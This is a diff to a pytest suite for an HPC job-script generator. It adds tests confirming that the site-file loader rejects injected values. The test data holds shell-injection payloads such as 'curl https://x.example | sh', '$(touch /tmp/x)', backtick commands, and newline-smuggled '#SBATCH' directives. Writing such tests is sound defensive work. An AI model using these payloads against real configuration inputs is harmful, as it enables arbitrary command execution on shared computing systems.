@@ -20,7 +20,7 @@ sys.path.insert(0, str(EDITION))
 import site_check  # noqa: E402
 
 from generate import GenerateError, generate, generate_text  # noqa: E402
-from sitefile import SCHEMA, load  # noqa: E402
+from sitefile import SCHEMA, SiteFileError, load  # noqa: E402
 
 SITES = {"template": TEMPLATE, **TEST_SITES}
 JOB_SCRIPTS = sorted(str(p.relative_to(EXAMPLES)) for s in ("*.sbatch", "*.qsub")
@@ -83,6 +83,21 @@ BAD = {
     "bad size": ({"scheduler.memory_per_gpu": "64 GB"}, "scheduler.memory_per_gpu must be a size"),
     "unknown scheduler": ({"scheduler.kind": "pbs"}, "scheduler.kind must be slurm or gridengine"),
     "unknown build": ({"pytorch.build": "cu118"}, "pytorch.build must be default, cu130"),
+    # What a site file must not do: put a line of its own into the scripts, or a command.
+    "a directive in the name": ({"centre.name": 'HPC\n#SBATCH --wrap="id"'},
+                                "centre.name must be one line without control characters"),
+    "a command in the name": ({"centre.name": "HPC $(touch /tmp/x)"}, "centre.name must be a name"),
+    "a command after init": ({"modules.init": ["/etc/profile.d/modules.sh\ncurl x | sh"]},
+                             "modules.init must be one line"),
+    "a command as init": ({"modules.init": ["curl https://x.example | sh"]},
+                          "modules.init must be absolute paths of files to source"),
+    "a command in the index": ({"pytorch.index_url": "https://x.example/$(touch${IFS}/tmp/x)"},
+                               "pytorch.index_url must be an http(s) address"),
+    "a command in the documentation": ({"centre.documentation": "https://x.example/`id`"},
+                                       "centre.documentation must be an http(s) address"),
+    "a carriage return in a path": ({"storage.scratch": "/scratch\r"},
+                                    "storage.scratch must be one line"),
+    "an empty module": ({"modules.python": [""]}, "modules.python has an empty item"),
 }  # fmt: skip
 
 
@@ -94,6 +109,31 @@ def test_a_bad_site_file_stops_with_one_line_naming_the_key(tmp_path, case):
     assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr, proc.stderr
     assert proc.stderr.startswith(f"site file: error: {path}: ") and message in proc.stderr, (
         proc.stderr
+    )
+
+
+TEXT_KEYS = [f"{section}.{key}" for section, keys in SCHEMA.items()
+             for key, spec in keys.items() if spec.kind in (str, list)]  # fmt: skip
+
+
+@pytest.mark.parametrize("dotted", TEXT_KEYS)
+def test_no_text_value_can_hold_a_second_line(tmp_path, dotted):
+    """A new line in a value would be a line of its own in a job script: a directive or a
+    command. Every text key refuses one, and every list item."""
+    section, key = dotted.split(".")
+    spec = SCHEMA[section][key]
+    value = "x\n#SBATCH --wrap=id"
+    path = minimal(tmp_path, **{dotted: [value] if spec.kind is list else value})
+    with pytest.raises(SiteFileError, match=rf"{dotted} must be one line without control"):
+        load(path)
+
+
+def test_a_site_file_that_is_not_utf8_stops_with_one_line(tmp_path):
+    path = tmp_path / "site.toml"
+    path.write_bytes('[centre]\nname = "Universit\u00e9 HPC"\n'.encode("latin-1"))
+    proc = run([sys.executable, EDITION / "sitefile.py", path], cwd=ROOT, expect_rc=1)
+    assert proc.stderr == (
+        f"site file: error: {path}: not UTF-8 text (byte 0xe9 at offset 26): save it as UTF-8\n"
     )
 
 
